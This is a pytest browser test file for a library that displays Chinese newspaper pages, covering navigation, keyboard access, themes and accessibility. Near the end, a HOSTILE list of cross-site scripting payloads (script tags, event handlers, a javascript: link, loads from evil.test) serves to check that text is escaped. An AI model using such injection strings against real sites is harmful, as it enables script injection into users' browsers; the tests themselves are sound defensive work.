"""The views in a browser: panes by mouse and keyboard, values that show, nothing that runs."""

from __future__ import annotations

from typing import Any

import pandas as pd
import pytest
from tabs import SEED, Open, boxes, violations

import banmian as bm
from banmian import display
from banmian.tables import dates, organisations, people, places, quantities


@pytest.fixture(scope="module")
def seed() -> bm.Page:
    return bm.read_page(SEED, issue_date="2020-11-03")


@pytest.fixture(scope="module")
def facts(seed: bm.Page) -> list[pd.DataFrame]:
    return [table(seed) for table in (quantities, dates, people, places, organisations)]


def document(*views: str, theme: str = "") -> str:
    """Views on a page of their own, as in a notebook; ``theme`` is what JupyterLab says."""
    said = f' data-jp-theme-light="{theme}"' if theme else ""
    return (
        '<!doctype html><html lang="en"><meta charset="utf-8"><title>views</title>'
        f'<link rel="icon" href="data:,"><body{said}><main><h1>Views</h1>{"".join(views)}</main>'
    )


def top(page: Any, selector: str) -> float:
    """Where an element begins, in pixels below the top of the text pane."""
    element, pane = (page.locator(s).bounding_box() for s in (selector, ".bm-text"))
    return float(element["y"] - pane["y"])


@pytest.fixture
def view(seed: bm.Page, facts: list[pd.DataFrame], open_tab: Open) -> Any:
    return open_tab(document(display.page_html(seed, facts=facts)))


def test_a_click_on_a_story_brings_its_text_to_the_top_of_the_pane(view: Any) -> None:
    assert top(view.page, "details >> nth=4") > 600
    view.page.locator(".bm-list a").nth(4).click()
    assert abs(top(view.page, "details:target")) < 3
    assert "工会送来" in view.page.locator("details:target summary").inner_text()


def test_stories_are_reached_and_closed_by_keyboard_alone(view: Any) -> None:
    page = view.page
    page.keyboard.press("Tab")  # the left pane
    for _ in range(3):
        page.keyboard.press("Tab")
    page.keyboard.press("Enter")
    assert abs(top(page, "details:target")) < 3
    assert page.locator("details:target summary").inner_text().startswith("2 ·")
    page.keyboard.press("Tab")
    focused = "document.activeElement.closest('details:target') !== null"
    while not page.evaluate("document.activeElement.tagName === 'SUMMARY'"):
        page.keyboard.press("Tab")
    assert page.evaluate(focused)
    page.keyboard.press("Enter")
    assert page.locator("details:target").get_attribute("open") is None
    page.keyboard.press("Space")
    assert page.locator("details:target").get_attribute("open") is not None


AT_END = """s => {
  const pane = document.querySelector(s);
  return pane.scrollTop > 0 && pane.scrollTop + pane.clientHeight > pane.scrollHeight - 2;
}"""


def test_each_pane_scrolls_for_itself_by_keyboard(view: Any) -> None:
    view.page.set_viewport_size({"width": 600, "height": 700})
    for pane in (".bm-text", ".bm-list"):
        assert not view.page.evaluate(AT_END, pane)
        view.page.locator(pane).focus()
        view.page.keyboard.press("End")
        view.page.wait_for_function(AT_END, arg=pane)


SHOWN = """element => {
  const style = getComputedStyle(element, '::after');
  return style.content === 'none' ? '' : style.content;
}"""


@pytest.mark.parametrize("how", ["hover", "focus"])
def test_a_fact_says_its_value_when_pointed_at_or_focused(view: Any, how: str) -> None:
    fact = view.page.locator(".bm-fact", has_text="7.1万户").first
    assert fact.evaluate(SHOWN) == ""
    getattr(fact, how)()
    assert "71,000 户" in fact.evaluate(SHOWN)


def test_a_value_at_the_edge_of_the_pane_stays_inside_the_window(view: Any) -> None:
    """A value that overflows would make the document wider than the window."""
    facts = view.page.locator(".bm-fact")
    for index in range(0, facts.count(), 9):
        facts.nth(index).focus()
        assert view.page.evaluate("document.documentElement.scrollWidth <= innerWidth")


def test_a_broken_link_and_a_lost_value_would_be_seen(
    seed: bm.Page, facts: list[pd.DataFrame], open_tab: Open
) -> None:
    html = display.page_html(seed, facts=facts)
    broken = html.replace('href="#bm-', 'href="#').replace("data-value=", "data-lost=")
    page = open_tab(document(broken)).page
    page.locator(".bm-list a").nth(4).click()
    assert page.locator("details:target").count() == 0
    assert top(page, "details >> nth=4") > 600
    fact = page.locator(".bm-fact", has_text="7.1万户").first
    fact.hover()
    assert "71,000" not in fact.evaluate(SHOWN)


def test_each_place_of_a_concordance_leads_to_its_mark(seed: bm.Page, open_tab: Open) -> None:
    html = display.kwic_html(bm.kwic(bm.tokens(seed), "困难职工"), seed)
    tab = open_tab(document(html))
    words = tab.page.locator(".bm-word a")
    lefts = [words.nth(i).bounding_box()["x"] for i in range(words.count())]
    assert len(lefts) > 10
    assert max(lefts) - min(lefts) < 1
    assert not tab.page.locator("mark").first.is_visible()
    words.nth(5).click()
    mark = tab.page.locator("mark:target")
    assert mark.is_visible()
    assert mark.inner_text() == "困难职工"
    inside = (
        "e => e.getBoundingClientRect().top >= 0 && e.getBoundingClientRect().bottom <= innerHeight"
    )
    assert mark.evaluate(inside)


def test_two_views_on_one_page_keep_to_themselves(seed: bm.Page, open_tab: Open) -> None:
    other = bm.parse_page("新桥通车\n\n本报讯 (记者王小明)新桥昨日通车。", name="other")
    tab = open_tab(document("<p id=own>own</p>", display.page_html(seed), display.page_html(other)))
    assert tab.page.evaluate(
        "() => { const ids = [...document.querySelectorAll('[id]')].map(e => e.id);"
        "return ids.length === new Set(ids).size }"
    )
    tab.page.locator(".bm-list").nth(1).locator("a").first.click()
    assert "新桥通车" in tab.page.locator("details:target").inner_text()
    own = tab.page.locator("#own")
    assert own.evaluate("e => getComputedStyle(e).color") == "rgb(0, 0, 0)"


THEMES = [
    ("a light system", "light", "", "rgb(251, 249, 244)"),
    ("a dark system", "dark", "", "rgb(27, 27, 29)"),
    ("a dark system, light JupyterLab", "dark", "true", "rgb(251, 249, 244)"),
    ("a light system, dark JupyterLab", "light", "false", "rgb(27, 27, 29)"),
]


@pytest.mark.parametrize(
    ("scheme", "theme", "paper"), [row[1:] for row in THEMES], ids=[row[0] for row in THEMES]
)
def test_the_ground_follows_the_system_unless_jupyterlab_decides(
    scheme: str, theme: str, paper: str, seed: bm.Page, open_tab: Open, axe: str
) -> None:
    views = [display.page_html(seed), display.article_html(seed.articles[4])]
    tab = open_tab(document(*views, theme=theme), color_scheme=scheme)
    ground = tab.page.locator(".bm").first.evaluate("e => getComputedStyle(e).backgroundColor")
    assert ground == paper
    assert violations(tab, axe) == []


def test_axe_finds_nothing_serious_in_any_view(
    seed: bm.Page, facts: list[pd.DataFrame], open_tab: Open, axe: str
) -> None:
    views = [
        display.page_html(seed, facts=facts),
        display.kwic_html(bm.kwic(bm.tokens(seed), "职工"), seed),
        display.block_html(seed.blocks[0]),
    ]
    assert violations(open_tab(document(*views)), axe) == []


def test_axe_would_find_a_text_without_contrast_and_a_picture_without_words(
    seed: bm.Page, open_tab: Open, axe: str
) -> None:
    html = display.page_html(seed).replace("--bm-soft:#5C5B59", "--bm-soft:#C9C8C4")
    found = violations(open_tab(document(html, "<img src='data:,'>")), axe)
    assert {line.split(":")[0] for line in found} >= {"color-contrast", "image-alt"}


HOSTILE = (
    "<script>document.title='run'</script>",
    "<img src=http://evil.test/a.png onerror=\"document.title='run'\">",
    "</style></div><script src=http://evil.test/a.js></script>",
    '" onmouseover="document.title=\'run\'" tabindex="0" onfocus="document.title=\'run\'',
    "<a href=\"javascript:document.title='run'\">新桥</a>",
    "<svg onload=\"document.title='run'\"><style>@import 'http://evil.test/a.css';</style>",
)


def test_hostile_text_runs_nothing_and_asks_nobody(open_tab: Open) -> None:
    text = "\n\n".join(
        f"新桥{rude}通车\n\n本报讯 (记者王小明)新桥3公里{rude}。" for rude in HOSTILE
    )
    page = bm.parse_page(text, name=HOSTILE[2], paper=HOSTILE[3])
    rude = quantities(page).assign(noun=HOSTILE[3])
    assert len(rude)
    views = [
        display.page_html(page, facts=[rude]),
        display.kwic_html(bm.kwic(bm.tokens(page), "新桥"), page),
        *map(display.article_html, page.articles),
        *map(display.block_html, page.blocks),
    ]
    tab = open_tab(document(*views))
    for selector in (".bm-fact", ".bm-role", ".bm-list a", "summary", ".bm-word a"):
        tab.page.locator(selector).first.hover()
        tab.page.locator(selector).first.click()
    tab.page.wait_for_timeout(200)
    assert tab.page.title() == "views"
    assert tab.page.locator("script, img, svg").count() == 0
    assert (tab.outside(), tab.errors) == ([], [])


def test_this_check_would_see_text_that_runs(open_tab: Open) -> None:
    tab = open_tab(document(*HOSTILE))
    tab.page.wait_for_timeout(200)
    assert tab.page.title() == "run"
    assert tab.outside()


def test_300_stories_are_shown_with_their_last_one_in_reach(open_tab: Open) -> None:
    story = "某市第{}座新桥通车\n\n本报讯 (记者王小明)某市第{}座新桥昨日通车,全长3公里。\n\n"
    page = bm.parse_page("".join(story.format(n, n) for n in range(300)))
    tab = open_tab(document(display.page_html(page, facts=[quantities(page)])))
    assert tab.page.locator("details").count() == 300
    tab.page.locator(".bm-list a").last.click()
    assert "第299座" in tab.page.locator("details:target").inner_text()


def test_without_a_chinese_font_the_characters_are_seen_to_be_boxes(view: Any) -> None:
    """The check that the report must pass can fail: this browser has Latin fonts only."""
    assert len(boxes(view, ".bm-text")) > 500
